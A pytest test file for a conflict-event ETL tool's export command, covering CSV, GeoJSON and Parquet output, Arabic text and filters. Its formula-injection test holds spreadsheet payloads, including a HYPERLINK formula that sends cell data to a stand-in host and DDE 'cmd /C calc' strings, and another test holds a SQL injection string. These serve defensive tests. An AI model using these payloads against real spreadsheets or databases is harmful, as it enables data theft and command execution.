"""`etl-project export` on a real DuckDB warehouse: CSV, GeoJSON, Parquet; formulas; Arabic; filters."""
from __future__ import annotations

import csv
import json
from datetime import date, datetime, timezone
from pathlib import Path

import duckdb
import polars as pl
import pytest

from etl_project import warehouse
from etl_project.cli import main
from etl_project.exports import ACLED_COLUMNS, ATTRIBUTION, EXPORT_COLUMNS, ExportFilter, governorate_names, read_events

LOADED_AT = datetime(2024, 5, 2, 1, 30, 0)
LOADED_TS = int(LOADED_AT.replace(tzinfo=timezone.utc).timestamp())
ARABIC = "قُتل ثلاثة مدنيين بانفجار عبوة ناسفة في مدينة الميادين بريف دير الزور الشرقي، «وفق مصادر محلية»."

EVENT_COLS = warehouse.EVENT_FIELDS + ("n_sources",)
ARTICLE_COLS = ("article_id", "partition_date", "published", "published_assumed", "source", "title", "url", "text",
                "text_sha1", "origin", "status", "n_events", "extractor_version")
SOURCE_COLS = ("event_id", "mention_id", "article_id", "source", "url", "published", "fatalities", "is_background", "is_primary")


def event(event_id: str, **over) -> dict:
    row = {c: None for c in EVENT_COLS}
    row.update(
        event_id=event_id, article_id=f"art-{event_id}", event_date=date(2024, 5, 1), time_precision=1, date_text="أمس",
        event_type="explosion_remote_violence", sub_event_type="remote_explosive_landmine_ied",
        actor1="Unidentified Armed Group", actor1_text="مجهولون", actor2="Civilians", actor2_text="مدنيين", inter1=3, inter2=7,
        location_name="الميادين", location_name_en="Al Mayadin", admin1="Deir ez-Zor", admin2="Al Mayadin",
        admin1_pcode="SY09", admin2_pcode="SY0903", latitude=35.0209, longitude=40.4535, geo_precision=1,
        location_text="في مدينة الميادين", gazetteer_id="wof:85678381", fatalities=3, injuries=5, is_background=False,
        evidence=ARABIC, evidence_start=10, evidence_end=10 + len(ARABIC), confidence=0.85, extractor_version="test-1",
        n_sources=1,
    )
    row.update(over)
    return row


def make_warehouse(path: Path, events: list[dict], source: str = "عنب بلدي", acled_ids: bool = True) -> Path:
    """A real warehouse file: the schema applied by warehouse.connect, rows inserted with parameters, and (as
    every load does) ACLED ids assigned; `acled_ids=False` gives a warehouse from before they existed."""
    with warehouse.connect(path) as con:
        days = set()
        for e in events:
            day = e["event_date"] or date(2024, 5, 1)
            days.add(day)
            con.execute(
                f"INSERT INTO articles ({', '.join(ARTICLE_COLS)}) VALUES ({', '.join('?' for _ in ARTICLE_COLS)})",
                [e["article_id"], day, day.isoformat(), False, source, "عنوان", f"https://example.org/{e['article_id']}",
                 e["evidence"], "sha", "test", "events", 1, e["extractor_version"]],
            )
            con.execute(f"INSERT INTO events ({', '.join(EVENT_COLS)}) VALUES ({', '.join('?' for _ in EVENT_COLS)})",
                        [e[c] for c in EVENT_COLS])
            con.execute(f"INSERT INTO event_sources ({', '.join(SOURCE_COLS)}) VALUES ({', '.join('?' for _ in SOURCE_COLS)})",
                        [e["event_id"], e["event_id"], e["article_id"], source, None, None, e["fatalities"], e["is_background"], True])
        for day in days:
            con.execute("INSERT INTO partition_loads VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?)",
                        [day, "run-1", LOADED_AT, 1, 1, 0, 0, 0, "test-1"])
        if acled_ids:
            warehouse.assign_acled_ids(con)
        else:
            con.execute("DELETE FROM acled_ids")
    return path


@pytest.fixture
def wh(tmp_path, monkeypatch) -> Path:
    events = [
        event("ev-1"),
        event("ev-2", event_date=date(2024, 5, 3), event_type="battle", sub_event_type="armed_clash",
              location_name="حلب", location_name_en="Aleppo", admin1="Aleppo", admin2="Jebel Saman", admin1_pcode="SY02",
              admin2_pcode="SY0200", latitude=36.2037, longitude=37.1726, fatalities=0, inter1=1, inter2=2,
              actor1="Military Forces of Syria", actor2="Syrian Democratic Forces"),
        event("ev-3", event_date=date(2024, 5, 5), event_type="protest", sub_event_type="peaceful_protest",
              location_name="درعا", location_name_en="Daraa", admin1="Dara", admin2="Dara", admin1_pcode="SY12",
              admin2_pcode="SY1201", latitude=32.6189, longitude=36.1021, fatalities=0, is_background=True, n_sources=2),
        # spelled differently, known only by its P-code: the Arabic filter still finds it
        event("ev-4", event_date=date(2024, 5, 3), location_name="ذيبان", location_name_en="Thiban", admin1="Deir-ez-Zor",
              admin1_pcode="SY09", latitude=35.015, longitude=40.5103, fatalities=1),
        # no coordinates: kept in every format
        event("ev-5", event_date=date(2024, 5, 4), location_name="البادية", location_name_en=None, admin1="Homs",
              admin1_pcode="SY04", admin2=None, admin2_pcode=None, latitude=None, longitude=None, geo_precision=3, fatalities=0),
    ]
    path = make_warehouse(tmp_path / "events.duckdb", events)
    monkeypatch.setenv("ETL_WAREHOUSE", str(path))
    return path


def read_csv(path: Path) -> tuple[list[str], list[dict]]:
    with open(path, encoding="utf-8-sig", newline="") as fh:
        reader = csv.DictReader(fh)
        return list(reader.fieldnames or []), list(reader)


def export(tmp_path: Path, fmt: str, *extra: str, name: str | None = None) -> Path:
    out = tmp_path / "out" / (name or f"events.{fmt}")
    assert main(["export", "--format", fmt, "--output", str(out), *extra]) == 0
    return out


# ---------------------------------------------------------------------------------------- CSV


def test_csv_has_acled_columns_in_order_then_the_evidence(wh, tmp_path):
    out = export(tmp_path, "csv")
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    header, rows = read_csv(out)
    assert header == list(EXPORT_COLUMNS)
    assert header[: len(ACLED_COLUMNS)] == list(ACLED_COLUMNS) and header[len(ACLED_COLUMNS) - 1] == "timestamp"
    assert [r["event_id"] for r in rows] == ["ev-1", "ev-2", "ev-4", "ev-5", "ev-3"]
    # numbered in date order, then by our event_id
    assert [r["event_id_cnty"] for r in rows] == ["SYR1", "SYR2", "SYR3", "SYR4", "SYR5"]
    first = rows[0]
    assert first["event_date"] == "2024-05-01" and first["year"] == "2024" and first["time_precision"] == "1"
    assert first["disorder_type"] == "Political violence" and first["event_type"] == "Explosions/Remote violence"
    assert first["sub_event_type"] == "Remote explosive/landmine/IED"
    assert first["event_type_code"] == "explosion_remote_violence" and first["inter1_code"] == "3"
    assert first["inter1"] == "Political militia" and first["inter2"] == "Civilians"
    assert first["interaction"] == "Political militia-Civilians" and first["interaction_code"] == "37"
    assert first["civilian_targeting"] == "Civilian targeting" and first["assoc_actor_1"] == ""
    assert first["iso"] == "760" and first["country"] == "Syria" and first["region"] == "Middle East"
    assert first["location"] == "Al Mayadin" and first["location_name"] == "الميادين"
    assert first["admin1"] == "Deir ez-Zor" and first["admin2"] == "Al Mayadin" and first["tags"] == ""
    assert float(first["latitude"]) == 35.0209 and float(first["longitude"]) == 40.4535
    assert first["source"] == "عنب بلدي" and first["source_scale"] == "" and first["n_sources"] == "1"
    assert first["notes"] == ARABIC and first["fatalities"] == "3" and first["injuries"] == "5"
    assert first["timestamp"] == str(LOADED_TS)
    assert first["admin1_pcode"] == "SY09" and first["gazetteer_id"] == "wof:85678381"
    background = rows[-1]
    assert background["tags"] == "background" and background["is_background"] == "true"
    assert background["n_sources"] == "2" and background["disorder_type"] == "Demonstrations"
    assert background["event_type"] == "Protests" and background["civilian_targeting"] == ""
    battle = rows[1]
    assert battle["event_type"] == "Battles" and battle["sub_event_type"] == "Armed clash"
    assert battle["interaction"] == "State forces-Rebel group" and battle["civilian_targeting"] == ""
    # no romanised name: named after its governorate; the Arabic stays in location_name
    unlocated = rows[3]
    assert unlocated["latitude"] == "" and unlocated["location"] == "Homs" and unlocated["location_name"] == "البادية"
    # another spelling of a governorate becomes ACLED's, through its P-code
    assert rows[2]["admin1"] == "Deir ez-Zor"


PAYLOADS = {
    "location_text": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "evidence": "+cmd|' /C calc'!A0",
    "actor1_text": "@SUM(1+1)*cmd|' /C calc'!A0",
    "actor2_text": "-2+3+cmd|' /C calc'!A0",
    "date_text": "\t=1+1",
    "location_name": "\r=1+1",
    "location_name_en": "＝1+1",
}


def test_no_csv_cell_can_run_as_a_formula(tmp_path, monkeypatch):
    path = make_warehouse(tmp_path / "w.duckdb", [event("=evil", **PAYLOADS)], source="=cmd|'/C calc'!A0")
    monkeypatch.setenv("ETL_WAREHOUSE", str(path))
    out = export(tmp_path, "csv")
    _, rows = read_csv(out)
    row = rows[0]
    for cell in row.values():
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝")), cell
    assert row["location_text"] == "'" + PAYLOADS["location_text"]
    assert row["evidence"] == "'" + PAYLOADS["evidence"] and row["notes"] == "'" + PAYLOADS["evidence"]
    assert row["actor1_text"] == "'" + PAYLOADS["actor1_text"]
    assert row["actor2_text"] == "'" + PAYLOADS["actor2_text"]
    assert row["date_text"] == "'" + PAYLOADS["date_text"]
    assert row["location_name"] == "'" + PAYLOADS["location_name"]
    assert row["location_name_en"] == "'" + PAYLOADS["location_name_en"]
    assert row["location"] == "'" + PAYLOADS["location_name_en"]  # no Latin letter: not romanised, still neutralised
    assert row["source"] == "'=cmd|'/C calc'!A0" and row["event_id"] == "'=evil" and row["event_id_cnty"] == "SYR1"
    # GeoJSON and Parquet carry values unchanged (documented in their metadata)
    doc = json.loads(export(tmp_path, "geojson").read_text(encoding="utf-8"))
    assert doc["features"][0]["properties"]["location_text"] == PAYLOADS["location_text"]
    assert "no formula neutralisation" in doc["formulas"]
    frame = pl.read_parquet(export(tmp_path, "parquet"))
    assert frame["evidence"][0] == PAYLOADS["evidence"]


# ---------------------------------------------------------------------------------------- GeoJSON


def _reject_constant(name):
    raise ValueError(f"not valid JSON: {name}")


def test_geojson_is_an_rfc7946_feature_collection(wh, tmp_path):
    out = export(tmp_path, "geojson")
    raw = out.read_bytes()
    assert not raw.startswith(b"\xef\xbb\xbf")  # RFC 8259: no BOM
    doc = json.loads(raw.decode("utf-8"), parse_constant=_reject_constant)
    assert doc["type"] == "FeatureCollection" and "crs" not in doc
    assert doc["attribution"] == ATTRIBUTION and "GeoNames" in doc["attribution"] and "OpenSyria" in doc["attribution"]
    features = doc["features"]
    with warehouse.connect(wh, read_only=True) as con:
        expected = {r[0]: r[1:] for r in con.execute("SELECT event_id, latitude, longitude FROM events").fetchall()}
    assert len(features) == len(expected) == 5
    for f in features:
        assert f["type"] == "Feature" and set(f) == {"type", "id", "geometry", "properties"}
        assert list(f["properties"]) == list(EXPORT_COLUMNS)
        assert f["id"] == f["properties"]["event_id_cnty"] and f["id"].startswith("SYR")
        lat, lon = expected[f["properties"]["event_id"]]
        if lat is None:
            assert f["geometry"] is None
            continue
        assert f["geometry"]["type"] == "Point"
        x, y = f["geometry"]["coordinates"]
        assert -180 <= x <= 180 and -90 <= y <= 90
        assert (x, y) == (round(lon, 6), round(lat, 6))  # [longitude, latitude]
        assert 35 < x < 43 and 32 < y < 38  # Syria, so the order cannot be swapped unnoticed
    props = next(f["properties"] for f in features if f["properties"]["event_id"] == "ev-1")
    assert props["event_date"] == "2024-05-01" and props["fatalities"] == 3 and props["is_background"] is False
    assert props["timestamp"] == LOADED_TS


# ---------------------------------------------------------------------------------------- Parquet


def test_parquet_round_trips_through_duckdb_and_polars(wh, tmp_path):
    out = export(tmp_path, "parquet")
    with warehouse.connect(wh, read_only=True) as con:
        expected = read_events(con)
    frame = pl.read_parquet(out)
    assert frame.columns == list(EXPORT_COLUMNS)
    assert frame.equals(expected)
    assert frame.schema["event_date"] == pl.Date and frame.schema["timestamp"] == pl.Int64
    con = duckdb.connect()
    rows = con.sql("SELECT * FROM read_parquet(?) ORDER BY event_id", params=[str(out)]).pl()
    assert rows.equals(expected.sort("event_id"))
    meta = dict(con.execute("SELECT decode(key), decode(value) FROM parquet_kv_metadata(?)", [str(out)]).fetchall())
    assert meta["attribution"] == ATTRIBUTION
    assert "CC BY 4.0" in meta["licenses"] and "no formula neutralisation" in meta["formulas"]


# ---------------------------------------------------------------------------------------- Arabic, attribution


def test_arabic_survives_byte_exact_in_every_format(wh, tmp_path):
    encoded = ARABIC.encode("utf-8")
    csv_out, geo_out, pq_out = (export(tmp_path, f) for f in ("csv", "geojson", "parquet"))
    assert encoded in csv_out.read_bytes()
    assert encoded in geo_out.read_bytes()  # literal UTF-8, no \u escapes
    _, rows = read_csv(csv_out)
    assert rows[0]["evidence"].encode("utf-8") == encoded
    assert rows[0]["location_text"] == "في مدينة الميادين" and rows[0]["source"] == "عنب بلدي"
    doc = json.loads(geo_out.read_text(encoding="utf-8"))
    assert doc["features"][0]["properties"]["evidence"].encode("utf-8") == encoded
    assert pl.read_parquet(pq_out)["evidence"][0].encode("utf-8") == encoded
    value = duckdb.connect().execute("SELECT evidence FROM read_parquet(?) WHERE event_id = 'ev-1'", [str(pq_out)]).fetchone()[0]
    assert value.encode("utf-8") == encoded


@pytest.mark.parametrize("fmt", ["csv", "geojson", "parquet"])
def test_every_export_has_a_licence_sidecar(wh, tmp_path, fmt):
    out = export(tmp_path, fmt)
    sidecar = out.with_name(out.name + ".LICENSE.txt")
    text = sidecar.read_text(encoding="utf-8")
    assert ATTRIBUTION in text and "5 events" in text and "Formulas:" in text


# ---------------------------------------------------------------------------------------- filters


def ids(path: Path) -> list[str]:
    return [r["event_id"] for r in read_csv(path)[1]]


def test_date_filter_is_inclusive(wh, tmp_path):
    out = export(tmp_path, "csv", "--from", "2024-05-03", "--to", "2024-05-04")
    assert ids(out) == ["ev-2", "ev-4", "ev-5"]
    assert ids(export(tmp_path, "csv", "--from", "2024-05-05")) == ["ev-3"]
    assert ids(export(tmp_path, "csv", "--to", "2024-05-01")) == ["ev-1"]


@pytest.mark.parametrize("name", ["Deir ez-Zor", "deir ez-zor", "DEIR EZ-ZOR", "Deir ez Zor", "دير الزور", "ديرالزور",
                                  "محافظة دير الزور", "sy09"])
def test_governorate_filter_in_english_any_case_or_arabic(wh, tmp_path, name):
    assert ids(export(tmp_path, "csv", "--governorate", name)) == ["ev-1", "ev-4"]


def test_governorate_filter_combines_with_dates_and_tolerates_other_spellings(wh, tmp_path):
    assert ids(export(tmp_path, "csv", "--governorate", "درعا")) == ["ev-3"]
    assert ids(export(tmp_path, "csv", "--governorate", "daraa")) == ["ev-3"]
    assert ids(export(tmp_path, "csv", "--governorate", "حماه")) == []
    assert ids(export(tmp_path, "csv", "--governorate", "دير الزور", "--from", "2024-05-02")) == ["ev-4"]


def test_filter_values_never_reach_the_sql_text(wh, tmp_path):
    out = export(tmp_path, "csv", "--governorate", "x' OR 1=1 --")
    assert ids(out) == []
    where, params = ExportFilter(governorate="x' OR 1=1 --").where()
    assert "1=1" not in where and "x'" not in where and "?" in where
    assert any("x' or 1=1 --" in p for p in params)


def test_governorate_names_resolve_to_pcodes_through_the_projects_admin_table():
    for name in ("إدلب", "ادلب", "محافظة إدلب", "Idleb", "idlib", "SY07"):
        assert governorate_names(name)[1] == ["SY07"], name
    assert governorate_names("حماه")[1] == ["SY05"] and governorate_names("Rif Dimashq")[1] == ["SY03"]
    assert governorate_names("Atlantis") == (["atlantis"], [])


def test_a_governorate_spelled_otherwise_in_admin1_is_found_without_a_pcode(tmp_path, monkeypatch):
    path = make_warehouse(tmp_path / "w.duckdb", [event("x", admin1="Deir-ez-Zor", admin1_pcode=None), event("y", admin1="Homs",
                                                                                                             admin1_pcode=None)])
    monkeypatch.setenv("ETL_WAREHOUSE", str(path))
    assert ids(export(tmp_path, "csv", "--governorate", "دير الزور")) == ["x"]
    assert ids(export(tmp_path, "csv", "--governorate", "deir ez zor")) == ["x"]


# ---------------------------------------------------------------------------------------- errors


def test_missing_warehouse_is_one_line_and_a_non_zero_exit(tmp_path, monkeypatch, capsys):
    monkeypatch.setenv("ETL_WAREHOUSE", str(tmp_path / "absent.duckdb"))
    out = tmp_path / "events.csv"
    assert main(["export", "--format", "csv", "--output", str(out)]) != 0
    err = capsys.readouterr().err
    assert err.startswith("etl-project: no warehouse at") and err.count("\n") == 1
    assert not out.exists() and not (tmp_path / "absent.duckdb").exists()


def test_format_comes_from_the_extension_or_is_a_usage_error(wh, tmp_path, capsys):
    out = tmp_path / "events.geojson"
    assert main(["export", "--output", str(out)]) == 0
    assert json.loads(out.read_text(encoding="utf-8"))["type"] == "FeatureCollection"
    assert main(["export", "--output", str(tmp_path / "events.xlsx")]) == 2
    assert capsys.readouterr().err.strip().splitlines()[-1].startswith("etl-project: say which format")


def test_reversed_dates_are_a_usage_error(wh, tmp_path, capsys):
    assert main(["export", "--format", "csv", "--output", str(tmp_path / "e.csv"), "--from", "2024-05-05", "--to", "2024-05-01"]) == 2
    assert "--to is before --from" in capsys.readouterr().err


def test_export_reads_while_another_reader_holds_the_warehouse(wh, tmp_path):
    with warehouse.connect(wh, read_only=True) as con:
        assert con.execute("SELECT count(*) FROM events").fetchone()[0] == 5
        out = export(tmp_path, "parquet")
    assert pl.read_parquet(out).height == 5


def test_an_older_warehouse_gets_its_acled_ids_once_then_exports_only_read(tmp_path, monkeypatch, capsys):
    path = make_warehouse(tmp_path / "w.duckdb", [event("b"), event("a")], acled_ids=False)
    monkeypatch.setenv("ETL_WAREHOUSE", str(path))
    out = export(tmp_path, "acled", name="events.csv")
    assert "gave ACLED ids (SYR...) to 2 events" in capsys.readouterr().err
    assert [(r["event_id"], r["event_id_cnty"]) for r in read_csv(out)[1]] == [("a", "SYR1"), ("b", "SYR2")]
    export(tmp_path, "acled", name="again.csv")
    assert "gave ACLED ids" not in capsys.readouterr().err
    assert read_csv(tmp_path / "out" / "again.csv") == read_csv(out)


def test_the_export_names_state_forces_as_acled_does_on_the_event_day(tmp_path, monkeypatch):
    db = make_warehouse(tmp_path / "w.duckdb", [
        event("ev-1", event_date=date(2025, 3, 1), event_type="explosion_remote_violence", sub_event_type="air_drone_strike",
              actor1="Military Forces of Israel", inter1=8, actor2=None, inter2=0),
        event("ev-2", event_date=date(2024, 5, 1), actor1="Military Forces of the United States", inter1=8),
    ])
    monkeypatch.setenv("ETL_WAREHOUSE", str(db))
    rows = {r["event_id"]: r for r in read_csv(export(tmp_path, "csv"))[1]}
    assert rows["ev-1"]["actor1"] == "Military Forces of Israel (2022-)" and rows["ev-1"]["actor2"] == ""
    assert rows["ev-2"]["actor1"] == "Military Forces of the United States (2021-2025)"
    assert rows["ev-2"]["actor2"] == "Civilians"
